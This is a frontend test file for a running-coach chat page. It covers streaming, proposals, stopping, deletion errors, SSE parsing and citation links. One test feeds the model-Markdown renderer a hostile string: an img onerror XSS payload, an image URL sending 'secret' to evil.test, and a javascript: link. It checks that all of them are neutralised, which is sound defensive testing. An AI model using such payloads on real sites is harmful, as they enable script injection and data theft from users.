import { screen, waitFor } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { events, type ServerEvent } from '../api/events';
import { Reply, scriptedApi, sse, type Asked } from '../test/api';
import { show } from '../test/render';
import { pageOf } from './Citations';
import CoachPage from './CoachPage';
import { Markdown } from './Markdown';

const api = (more: Record<string, unknown> = {}) =>
  scriptedApi({ 'GET /v1/coach/suggestions': { suggestions: ['How is my week?', 'b', 'c', 'd', 'e', 'f'] }, 'GET /v1/coach/threads': [], 'GET /v1/coach/proposals': [], ...more });

const answer = (change: object = {}) => ({ response: 'Keep **easy**.', thread_id: 'thread-1', error: false, briefing: null, ...change });
describe('the coach', () => {
  it('answers as it speaks, and a suggestion is a question', async () => {
    const script = api({
      'POST /v1/coach/chat': () => sse('event: token\ndata: {"text":"Keep "}\n\n', `event: done\ndata: ${JSON.stringify(answer())}\n\n`),
    });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'How is my week?' }));

    expect((await screen.findByText('easy')).tagName).toBe('STRONG');
    expect(script.calls('POST /v1/coach/chat')[0]?.body).toEqual({ message: 'How is my week?', thread_id: null });
  });

  it('shows the briefing in place of an answer where there is no model', async () => {
    api({
      'POST /v1/coach/chat': () =>
        sse(`event: error\ndata: ${JSON.stringify(answer({ response: 'No model is configured.', error: true, briefing: { text: 'Today: tempo.' } }))}\n\n`),
    });
    const { user } = show(<CoachPage />);

    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');

    expect(await screen.findByText('No model is configured.')).toBeTruthy();
    expect(screen.getByText('Today: tempo.')).toBeTruthy();
  });

  it('shows a proposal with what would change, and accepts it on a click', async () => {
    const session = (date: string) => ({ scheduled_date: date, workout_type: 'long', title: 'Long', target_distance_km: 18, target_duration_minutes: null });
    const proposal = {
      id: 'p-1', kind: 'changes', status: 'open', title: 'Move the long run', plan: null, findings: [], reasons: [],
      changes: [{ workout_id: 'w', kind: 'moved', before: session('2026-11-29'), after: session('2026-11-28') }],
    };
    const script = api({
      'GET /v1/coach/proposals': [proposal],
      'POST /v1/coach/proposals/p-1/accept': { ...proposal, status: 'accepted' },
    });
    const { user } = show(<CoachPage />);

    expect((await screen.findAllByText(/Long run · 18 km/)).length).toBe(2);
    await user.click(screen.getByRole('button', { name: 'Accept' }));

    expect(await screen.findByText('Accepted')).toBeTruthy();
    expect(script.calls('POST /v1/coach/proposals/p-1/accept')).toHaveLength(1);
  });

  it('says so when the plan has moved on since a proposal, and it can be read again', async () => {
    const proposal = { id: 'p-1', kind: 'changes', status: 'open', title: 'Move the long run', plan: null, findings: [], reasons: ['You are tired.'], changes: [] };
    const script = api({
      'GET /v1/coach/proposals': [proposal],
      'POST /v1/coach/proposals/p-1/accept': new Reply(409, { title: 'Conflict', detail: 'The plan has moved on since this was proposed.' }),
    });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'Accept' }));

    expect(await screen.findByText('The plan has moved on since this was proposed.')).toBeTruthy();
    await waitFor(() => expect(script.calls('GET /v1/coach/proposals').length).toBeGreaterThan(1));
  });

  it('leaves the plan as it is when a proposal is rejected', async () => {
    const proposal = { id: 'p-1', kind: 'changes', status: 'open', title: 'Move the long run', plan: null, findings: [], reasons: [], changes: [] };
    api({ 'GET /v1/coach/proposals': [proposal], 'POST /v1/coach/proposals/p-1/reject': { ...proposal, status: 'rejected' } });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'Reject' }));

    expect(await screen.findByText('Rejected')).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Accept' })).toBeNull();
  });

  it('stops when it is told to', async () => {
    api({ 'POST /v1/coach/chat': ({ signal }: Asked) => new Promise((_, refuse) => signal?.addEventListener('abort', () => refuse(signal.reason))) });
    const { user } = show(<CoachPage />);

    await user.type(await screen.findByRole('textbox'), 'Hello{Enter}');

    await user.click(await screen.findByRole('button', { name: 'Stop' }));
    expect(await screen.findByText('Stopped.')).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Send' })).toBeTruthy();
  });

  it('brings a conversation back that could not be deleted', async () => {
    api({
      'GET /v1/coach/threads': [{ id: 't-1', title: 'My week', created_at: '2026-11-01T00:00:00Z', updated_at: '2026-11-01T00:00:00Z' }],
      'DELETE /v1/coach/threads/t-1': new Reply(503, { title: 'Away', detail: 'The coach is away.' }),
    });
    const { user } = show(<CoachPage />);

    await user.click(await screen.findByRole('button', { name: 'Delete “My week”' }));

    expect(await screen.findByText('The coach is away.')).toBeTruthy();
    await waitFor(() => expect(screen.getByRole('link', { name: 'My week' })).toBeTruthy());
  });
});

describe('Markdown of a model', () => {
  it('is never HTML, loads nothing and leads nowhere else', () => {
    const hostile = '<img src=x onerror=alert(1)> ![x](https://evil.test/?d=secret) [here](https://evil.test) [js](javascript:alert(1)) [own](/runs)';
    const { container } = show(<Markdown text={hostile} />);

    expect(container.querySelectorAll('img, script, iframe').length).toBe(0);
    expect([...container.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual(['/runs']);
    expect(container.textContent).toContain('<img src=x onerror=alert(1)>');
  });

  it('has lists, headings, emphasis and code', () => {
    const { container } = show(<Markdown text={'## Week\n\n- **easy** 8 km\n- long *slow*\n\n1. `one`\n2. two'} />);

    expect(container.querySelectorAll('ul > li').length).toBe(2);
    expect(container.querySelectorAll('ol > li').length).toBe(2);
    expect(container.querySelector('h3')?.textContent).toBe('Week');
    expect(container.querySelector('code')?.textContent).toBe('one');
  });
});

it('events are read however the network cuts them', async () => {
  const found: ServerEvent[] = [];
  for await (const event of events(sse('event: tok', 'en\ndata: {"text":', '"a"}\n', '\nevent: done\ndata: {}\n\n').body!)) found.push(event);

  expect(found).toEqual([
    { name: 'token', data: '{"text":"a"}' },
    { name: 'done', data: '{}' },
  ]);
});

it('a fact leads to where it can be seen', () => {
  expect(pageOf('run.01a2210d-13b0-74fe-9ab2-2010ece33ade.distance')).toBe('/runs/01a2210d-13b0-74fe-9ab2-2010ece33ade');
  expect(pageOf('day.2026-11-28.workout')).toBe('/calendar?day=2026-11-28');
  expect(pageOf('plan.race.date')).toBe('/plan');
});
